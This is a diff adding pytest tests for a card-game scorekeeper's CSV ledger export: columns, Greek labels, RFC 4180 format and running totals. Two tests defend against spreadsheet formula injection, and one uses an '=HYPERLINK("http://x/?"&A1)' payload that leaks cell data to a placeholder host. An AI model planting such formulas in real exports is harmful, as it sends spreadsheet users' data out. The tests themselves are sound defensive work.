@@ -1,0 +1,134 @@
+"""The ledger for a spreadsheet, read back as a spreadsheet reads it."""
+
+import csv
+from io import StringIO
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from scorekeeper.i18n import labels, use_locale
+from scorekeeper.printing.ledger_csv import defused, ledger_csv
+from scorekeeper.rules.match import Match
+from scorekeeper.rules.match_file import read_match
+from scorekeeper.rules.model import RULES
+from tests.printing.evening import EVENING, PASSED_OUT, Json, hand, match
+from tests.rules.match_files import sound_file
+from tests.rules.strategies import hands, house_rules
+
+LATE = {"adjust": {"A": -12, "B": 5}, "reason": "late"}
+
+
+def columns(kept: Match) -> list[dict[str, str]]:
+    """Each row, by the headings."""
+    return list(csv.DictReader(StringIO(ledger_csv(kept).decode("utf-8-sig"), newline="")))
+
+
+def number(text: str) -> int:
+    return int(text or 0)
+
+
+def adds_up(rows: list[dict[str, str]], sides: tuple[str, str]) -> bool:
+    """Are a row's rules its score, and the scores so far its total?"""
+    for side in sides:
+        total = 0
+        for row in rows:
+            lines = sum(number(row[f"{side}: {labels.rule_name(rule)}"]) for rule in RULES)
+            score = number(row[f"{side}: hand"])
+            total += score
+            if row["Dealer"] and lines != score:
+                return False
+            if number(row[f"{side}: total"]) != total:
+                return False
+    return True
+
+
+def test_a_hand_tells_its_contract_and_every_rule_of_its_score() -> None:
+    first, failed, doubled, *_rest = columns(match(EVENING))
+
+    assert {name: text for name, text in first.items() if text} == {
+        "Hand": "1",
+        "Dealer": "Ανδρέας Γεωργίου",
+        "Bidder": "Αετοί",
+        "Bid": "90",
+        "Trump": "Hearts",
+        "Made or failed": "made",
+        "Αετοί: points taken": "97",
+        "Λιοντάρια: points taken": "65",
+        "Αετοί: card points": "9",
+        "Λιοντάρια: card points": "6",
+        "Αετοί: missing point": "1",
+        "Αετοί: stake": "9",
+        "Αετοί: hand": "19",
+        "Λιοντάρια: hand": "6",
+        "Αετοί: total": "19",
+        "Λιοντάρια: total": "6",
+    }
+    assert failed["Made or failed"] == "failed"
+    assert doubled["Doubled"] == "×4"
+
+
+def test_there_is_a_column_for_each_rule_and_side_also_where_nothing_was_scored() -> None:
+    with use_locale("el"):
+        text = ledger_csv(match([])).decode("utf-8-sig")
+    (heading,) = text.splitlines()
+
+    rules = heading.split(",")[10:-5]
+    assert len(rules) == 2 * len(RULES)
+    assert rules[:2] == ["Αετοί: πόντοι", "Λιοντάρια: πόντοι"]
+    assert rules[-1] == "Λιοντάρια: χαμένη πιλόττα"
+
+
+def test_what_is_no_plain_hand_says_so() -> None:
+    kept = match([LATE, PASSED_OUT, *EVENING[:1]], open=hand("B", "kapo", "spades", doubled=2))
+    late, passed, _hand, open_contract = columns(kept)
+
+    assert (late["Αετοί: hand"], late["Λιοντάρια: hand"], late["Note"]) == ("-12", "5", "late")
+    assert (passed["Note"], passed["Bidder"], passed["Αετοί: hand"]) == ("passed out", "", "0")
+    assert (open_contract["Bid"], open_contract["Note"]) == ("kapo", "not yet")
+    assert open_contract["Αετοί: total"] == "7"
+
+
+def test_a_hand_after_the_end_adds_nothing() -> None:
+    won = match(EVENING, target=262)
+    rows = columns(Match(sides=won.sides, rules=won.rules, entries=(*won.entries, won.entries[0])))
+
+    assert [row["Note"] for row in rows[-2:]] == ["", "after the end"]
+    assert (rows[-1]["Αετοί: hand"], rows[-1]["Αετοί: stake"]) == ("", "")
+    assert adds_up(rows, ("Αετοί", "Λιοντάρια"))
+
+
+def test_it_is_what_spreadsheets_and_rfc_4180_agree_on() -> None:
+    content = ledger_csv(match([{**LATE, "reason": 'a "late", row'}]))
+
+    assert content.startswith(b"\xef\xbb\xbf"), "or Excel reads Greek as Latin"
+    assert content.endswith(b"\r\n")
+    assert b"\n" not in content.replace(b"\r\n", b"")
+    assert b'"a ""late"", row"' in content
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
+def test_a_formula_is_text(start: str) -> None:
+    assert defused(f"{start}1+1") == f"'{start}1+1"
+
+
+def test_names_and_reasons_run_nothing() -> None:
+    bad = '=HYPERLINK("http://x/?"&A1)'
+    sides = {side: {"name": f"{bad}{side}", "players": [bad]} for side in "AB"}
+    rows = columns(match([{**LATE, "reason": "@SUM(A1)"}, *EVENING[:1]], sides=sides))
+
+    cells = [cell for row in rows for cell in (*row, *row.values())]
+    assert [c for c in cells if c[:1] in "=+@\t" and c] == []
+    assert rows[0]["Note"] == "'@SUM(A1)"
+    assert rows[0][f"'{bad}A: hand"] == "-12", "a negative number is a number"
+
+
+@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(st.data(), house_rules())
+def test_every_row_adds_up_whatever_the_rules(data: st.DataObject, rules: Json) -> None:
+    rows = data.draw(st.lists(hands(rules) | st.just(LATE) | st.just(PASSED_OUT), max_size=6))
+    sides = {"A": {"name": "a"}, "B": {"name": "b"}}
+    kept, _ = read_match(sound_file(rules, rows, sides=sides, target=5000))
+    assert kept is not None
+    with use_locale("en"):
+        assert adds_up(columns(kept), ("a", "b"))
